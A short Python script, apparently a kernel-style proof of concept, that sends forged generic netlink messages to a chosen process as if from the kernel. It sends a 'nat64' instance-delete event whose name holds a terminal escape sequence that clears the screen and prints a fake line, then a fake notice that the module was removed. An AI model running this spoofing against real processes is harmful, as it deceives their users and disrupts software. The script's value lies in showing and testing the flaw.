#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""False messages for the socket of a process, as if they were the kernel's.

usage: spoof.py UAPI_HEADER PID

Waits until the process listens to generic netlink, and sends it an event of an
instance whose name would clear a terminal and begin a line, and the news that
the module was removed. Any process with CAP_NET_ADMIN in the network namespace
can send them.
"""

import re
import socket
import struct
import sys
import time

GENERIC = 16
CONTROLLER, DELFAMILY, FAMILY_ID, FAMILY_NAME = 16, 2, 1, 2
GETFAMILY, REQUEST = 3, 1


def attr(kind, value):
    return struct.pack("=HH", 4 + len(value), kind) + value + \
        bytes(-len(value) % 4)


def message(family, cmd, flags=0, body=b""):
    body = struct.pack("=BBH", cmd, 1, 0) + body
    return struct.pack("=IHHII", 16 + len(body), family, flags, 0, 0) + body


def numbers(header, name):
    """The names of an enum, each with its number."""
    text = re.search(r"enum %s \{(.*?)\}" % name, header, re.S).group(1)
    text = re.sub(r"/\*.*?\*/", "", text, flags=re.S)
    return {word.split()[0]: i
            for i, word in enumerate(w for w in text.split(",") if w.split())}


def family(sock):
    sock.sendto(message(CONTROLLER, GETFAMILY, REQUEST,
                        attr(FAMILY_NAME, b"nat64\0")), (0, 0))
    answer = sock.recv(65536)
    at = 20
    while at < len(answer):
        size, kind = struct.unpack_from("=HH", answer, at)
        if kind == FAMILY_ID:
            return struct.unpack_from("=H", answer, at + 4)[0]
        at += (size + 3) & ~3
    raise SystemExit("there is no family nat64")


def port_of(pid):
    """The port of a listener; libnl makes it of the process and a number."""
    with open("/proc/net/netlink", encoding="ascii") as sockets:
        for row in map(str.split, sockets):
            if row[1] == str(GENERIC) and int(row[3], 16) and \
               int(row[2]) & 0x3fffff == pid:
                return int(row[2])
    return None


def main():
    with open(sys.argv[1], encoding="ascii") as file:
        header = file.read()
    pid = int(sys.argv[2])
    commands, attrs = numbers(header, "nat64_cmd"), numbers(header,
                                                            "nat64_attr")
    sock = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, GENERIC)
    sock.bind((0, 0))
    ours = family(sock)
    end = time.monotonic() + 60
    while not (port := port_of(pid)):
        if time.monotonic() > end:
            raise SystemExit("the process does not listen")
        time.sleep(0.05)
    sock.sendto(message(ours, commands["NAT64_CMD_INSTANCE_DEL_NTF"], 0,
                        attr(attrs["NAT64_A_INSTANCE"],
                             b"\033[2Jx\nroot: false\0") +
                        attr(attrs["NAT64_A_TIME"],
                             struct.pack("=Q", 1795338611123456789))),
                (port, 0))
    sock.sendto(message(CONTROLLER, DELFAMILY, 0,
                        attr(FAMILY_NAME, b"nat64\0")), (port, 0))


main()
